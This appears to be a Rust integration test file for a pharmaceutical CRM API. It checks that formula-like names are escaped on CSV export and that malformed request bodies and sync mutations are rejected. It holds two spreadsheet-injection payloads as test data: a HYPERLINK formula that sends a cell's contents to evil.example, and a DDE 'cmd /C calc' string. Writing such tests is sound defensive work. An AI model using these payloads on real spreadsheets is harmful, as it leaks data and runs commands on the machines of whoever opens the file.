//! What the server writes and what it reads, through the API on both backends: a formula
//! typed into a field leaves in a CSV escaped and comes back unchanged; a body of the wrong
//! shape, or with a field its schema does not declare, is refused and changes nothing.
// Scenario tests read as one story, start to end, however long.
#![allow(clippy::too_many_lines)]

mod common;

use axum::http::{Method, StatusCode};
use common::{new_hcp, Api};
use pharmacrm_domain::npi::Npi;
use pharmacrm_fixtures::backend_tests;
use pharmacrm_storage::Store;
use serde_json::{json, Value};

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";

/// The exported rows whose NPI is `npi`, as a map from column to cell.
fn exported_row(csv_text: &str, npi: &str) -> std::collections::HashMap<String, String> {
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let header = reader.headers().unwrap().clone();
    let record = reader
        .records()
        .map(Result::unwrap)
        .find(|r| &r[0] == npi)
        .unwrap_or_else(|| panic!("{npi} is not exported"));
    header
        .iter()
        .zip(record.iter())
        .map(|(h, v)| (h.to_string(), v.to_string()))
        .collect()
}

async fn import(api: &Api, token: &str, file: String) -> Value {
    let reply = api
        .send(
            Method::POST,
            "/api/v1/imports/hcps",
            Some(token),
            Some("text/csv"),
            file.into_bytes(),
        )
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
    reply.json()
}

async fn a_formula_in_a_name_is_exported_escaped_and_reimports_unchanged(store: Store) {
    let api = Api::demo(store).await;
    let rep = api.login("rep.t01").await;
    let ops = api.login("ops").await;
    let zip = api.all("/api/v1/hcps", &rep).await[0]["zip"]
        .as_str()
        .unwrap()
        .to_string();

    // A rep types a formula as a first name, with a negative longitude.
    let typed = Npi::from_base(912_345_678).as_str().to_string();
    let mut hcp = new_hcp(&typed, &zip);
    hcp["first_name"] = json!(FORMULA);
    hcp["address"]["latitude"] = json!(42.36);
    hcp["address"]["longitude"] = json!(-71.05);
    let created = api.post_json("/api/v1/hcps", Some(&rep), &hcp).await;
    assert_eq!(created.status, StatusCode::CREATED, "{}", created.text);

    // Another arrives through a bulk import.
    let imported = Npi::from_base(912_345_679).as_str().to_string();
    let mut fields = pharmacrm_service::csv_format::hcp_input_fields(
        &serde_json::from_value(new_hcp(&imported, &zip)).unwrap(),
    );
    fields[1] = "@SUM(1+1)*cmd|' /C calc'!A0".into();
    fields[3] = "-Lopez".into();
    let mut file = pharmacrm_service::csv_format::HCP_COLUMNS.join(",") + "\n";
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer.write_record(&fields).unwrap();
    file.push_str(&String::from_utf8(writer.into_inner().unwrap()).unwrap());
    let report = import(&api, &ops, file).await;
    assert_eq!(report["created"], 1, "{report}");

    // Ops exports: every text cell that would run as a formula is behind a quote; the
    // numbers are numbers.
    let export = api.get("/api/v1/hcps/export", Some(&ops)).await;
    assert_eq!(export.status, StatusCode::OK);
    let row = exported_row(&export.text, &typed);
    assert_eq!(row["first_name"], format!("'{FORMULA}"));
    assert_eq!(row["longitude"], "-71.05");
    assert_eq!(row["latitude"], "42.36");
    let row = exported_row(&export.text, &imported);
    assert_eq!(row["first_name"], "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(row["last_name"], "'-Lopez");
    for line in export.text.lines().skip(1) {
        let first = line.split(',').nth(1).unwrap_or("");
        assert!(
            !first.starts_with(['=', '+', '-', '@']),
            "an unescaped cell: {line}"
        );
    }

    // The export re-imports unchanged: the importer removes the escape.
    let again = import(&api, &ops, export.text.clone()).await;
    assert_eq!(again["rejected"], 0, "{again}");
    assert_eq!(again["updated"], 0, "{again}");
    assert_eq!(again["created"], 0, "{again}");
    let listed = api.all(&format!("/api/v1/hcps?q={typed}"), &ops).await;
    assert_eq!(listed[0]["first_name"], FORMULA);
    let listed = api.all(&format!("/api/v1/hcps?q={imported}"), &ops).await;
    assert_eq!(listed[0]["last_name"], "-Lopez");
}

/// The id of a pending data request (the stewardship fixture seeds some).
async fn a_pending_request(api: &Api, ops: &str) -> String {
    pharmacrm_fixtures::stewardship::seed(&api.store, 7)
        .await
        .unwrap();
    let pending = api
        .get("/api/v1/data-requests?status=pending", Some(ops))
        .await
        .json();
    pending[0]["id"].as_str().unwrap().to_string()
}

async fn a_body_of_the_wrong_shape_is_refused_and_decides_nothing(store: Store) {
    let api = Api::demo(store).await;
    let ops = api.login("ops").await;
    let id = a_pending_request(&api, &ops).await;
    let approve = format!("/api/v1/data-requests/{id}/approve");

    for (body, field) in [
        (json!([null, null]), "body"),
        (json!(null), "body"),
        (json!("approve"), "body"),
        (json!({"reason": "ok", "approved": true}), "approved"),
        (json!({"reason": ["ok"]}), "reason"),
    ] {
        let reply = api.post_json(&approve, Some(&ops), &body).await;
        assert_eq!(
            reply.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{body}: {}",
            reply.text
        );
        let problem = reply.json();
        assert_eq!(problem["code"], "validation_failed", "{body}");
        assert_eq!(problem["errors"][0]["field"], field, "{body}");
    }
    // A nested object of the wrong shape names its path.
    let mut hcp = new_hcp(Npi::from_base(912_345_680).as_str(), "02110");
    hcp["address"] = json!(["1 Main St", null, "Boston", "MA", "02110", null, null]);
    let reply = api.post_json("/api/v1/hcps", Some(&ops), &hcp).await;
    assert_eq!(reply.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(reply.json()["errors"][0]["field"], "address");

    // An operation that takes no body refuses one rather than ignore it.
    let junk = api
        .post_json("/api/v1/duplicates/scan", Some(&ops), &json!([null, null]))
        .await;
    assert_eq!(
        (junk.status, junk.json()["errors"][0]["field"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("body")),
        "{}",
        junk.text
    );
    let scan = api
        .send(
            Method::POST,
            "/api/v1/duplicates/scan",
            Some(&ops),
            None,
            Vec::new(),
        )
        .await;
    assert_eq!(scan.status, StatusCode::OK, "{}", scan.text);

    let still = api
        .get("/api/v1/data-requests?status=pending", Some(&ops))
        .await
        .json();
    assert!(
        still.as_array().unwrap().iter().any(|r| r["id"] == id),
        "the request is still pending"
    );
    let approved = api.post_json(&approve, Some(&ops), &json!({})).await;
    assert_eq!(approved.status, StatusCode::OK, "{}", approved.text);
    assert_eq!(approved.json()["status"], "approved");
}

async fn a_wrongly_shaped_mutation_is_rejected_alone(store: Store) {
    let api = Api::demo(store).await;
    let rep = api.login("rep.t01").await;
    let hcp = common::callable_hcps(&api, &rep).await[0].clone();
    let at = api.store.now() - chrono::Duration::minutes(30);
    let call = |id: uuid::Uuid| {
        json!({"id": id, "call_type": "in_person", "hcp_ids": [hcp], "called_at": at.to_rfc3339(),
            "outcome": "interested", "next_step": "follow_up_visit"})
    };
    let mutation = |payload: Value| {
        json!({"id": pharmacrm_domain::new_id(), "client_ts": at.to_rfc3339(),
            "kind": "call.submit", "payload": payload})
    };
    let as_array = json!([pharmacrm_domain::new_id(), "in_person", [hcp]]);
    let mut undeclared_in_payload = call(pharmacrm_domain::new_id());
    undeclared_in_payload["approved"] = json!(true);
    let mut undeclared_beside = mutation(call(pharmacrm_domain::new_id()));
    undeclared_beside["priority"] = json!("high");
    let good = mutation(call(pharmacrm_domain::new_id()));
    let mutations = vec![
        mutation(as_array),
        mutation(undeclared_in_payload),
        undeclared_beside,
        mutation(json!(null)),
        good.clone(),
    ];
    let body = json!({"client_id": pharmacrm_domain::new_id(), "mutations": mutations});
    let reply = api.post_json("/api/v1/sync/push", Some(&rep), &body).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
    let results = reply.json()["results"].as_array().unwrap().clone();
    let answer = |m: &Value| {
        results
            .iter()
            .find(|r| r["mutation_id"] == m["id"])
            .unwrap()
            .clone()
    };
    for m in &mutations[..4] {
        let a = answer(m);
        assert_eq!(
            (a["status"].as_str(), a["code"].as_str()),
            (Some("rejected"), Some("validation_failed")),
            "{m}: {a}"
        );
    }
    assert_eq!(answer(&mutations[2])["errors"][0]["field"], "priority");
    assert_eq!(answer(&good)["status"], "applied", "{}", answer(&good));
}

backend_tests!(
    a_formula_in_a_name_is_exported_escaped_and_reimports_unchanged,
    a_body_of_the_wrong_shape_is_refused_and_decides_nothing,
    a_wrongly_shaped_mutation_is_rejected_alone,
);
